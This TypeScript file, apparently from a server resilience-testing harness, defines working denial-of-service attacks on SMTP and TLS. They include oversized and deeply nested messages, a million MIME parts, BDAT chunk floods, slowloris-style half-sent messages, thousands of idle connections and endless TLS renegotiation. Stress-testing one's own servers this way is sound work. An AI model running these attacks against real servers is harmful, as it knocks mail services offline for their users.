/** Attacks on SMTP: messages that cost more than their size, endless messages, idle connections, TLS renegotiation. */
import { setTimeout as pause } from 'node:timers/promises'
import type { TLSSocket } from 'node:tls'
import type { AttackSet } from './catalog.ts'
import type { HostileClient } from './hostile.ts'

const MB = 1024 * 1024
const HEAD = 'From: app@attacker.example\r\nSubject: x\r\n'
const NESTED = 'Content-Type: message/rfc822\r\n\r\n'
const MULTIPART = 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n'

/** Sends messages of one shape repeatedly on `connections` connections. */
function messages(connections: number, head: string, piece: string, times: number) {
  return (hostile: HostileClient): Promise<void> =>
    hostile.swarm(connections, async () => {
      const wire = await hostile.signedIn()
      if (!wire) return
      while (wire.open && !hostile.over && (await hostile.begin(wire))) {
        await wire.say(head)
        await wire.repeat(piece, times)
        await wire.say('\r\n\r\nHello\r\n.\r\n')
        if (!(await wire.hear(/^\d{3} .*\r\n/m, 60_000))) break
      }
      wire.close()
    })
}

export const SMTP_ATTACKS: AttackSet = {
  'smtp-dots': {
    what: 'Messages of 38 MB of lines with a dot',
    run: messages(2, `${HEAD}\r\n`, '..\r\n', 9.5 * MB),
  },
  'smtp-nested': {
    what: 'Messages of 32 MB of nested messages',
    run: messages(2, HEAD + NESTED, NESTED, MB),
  },
  'smtp-parts': {
    what: 'Messages of a million parts',
    run: messages(2, HEAD + MULTIPART, '--a\r\n\r\n', MB),
  },
  'smtp-header': { what: 'Messages with 36 MB of header', run: messages(2, HEAD, 'X-A: b\r\n', 4.5 * MB) },
  'smtp-chunks': {
    what: 'Messages of 60,000 BDAT chunks of one octet',
    run: (hostile) =>
      hostile.swarm(10, async () => {
        const wire = await hostile.signedIn()
        if (!wire) return
        if (await hostile.begin(wire, false)) await wire.repeat('BDAT 1\r\nx', 60_000)
        await wire.hear(/never said/, 2000)
        wire.close()
      }),
  },
  'smtp-half-sent': {
    what: '28 half-sent messages of 3 MB, then an octet every 20 s',
    run: (hostile) =>
      hostile.swarm(14, async () => {
        const wire = await hostile.signedIn()
        if (!wire || !(await hostile.begin(wire))) return
        await wire.say(`${HEAD}\r\n`)
        await wire.repeat(`${'x'.repeat(76)}\r\n`, 40_000)
        while (wire.open && !hostile.over) {
          await pause(Math.min(20_000, hostile.left))
          await wire.say('x')
        }
      }),
  },
  'smtp-idle': {
    what: '4,000 idle SMTP connections from six addresses',
    run: (hostile) =>
      hostile.swarm(2000, async (n) => {
        const wire = await hostile.open(hostile.target.starttls, { deaf: true, address: n % 3 })
        if (wire) await hostile.hold(wire)
      }),
  },
  'tls-renegotiation': {
    what: 'TLS 1.2 renegotiation without end, HTTPS and SMTPS',
    run: (hostile) =>
      hostile.swarm(40, async (n) => {
        const port = n % 2 === 0 ? hostile.target.https : hostile.target.implicit
        const wire = await hostile.open(port, { tls: true })
        if (!wire) return
        for (let last = false; wire.open && !last;) last = !(await renegotiated(wire.socket as TLSSocket))
        wire.close()
      }),
  },
}

/** Reports whether the server agreed to renegotiate within a second. */
function renegotiated(socket: TLSSocket): Promise<boolean> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(false), 1000)
    socket.once('close', () => resolve(false))
    const begun = socket.renegotiate({ rejectUnauthorized: false }, (error) => {
      clearTimeout(timer)
      resolve(!error)
    })
    if (begun === false) resolve(false)
  })
}
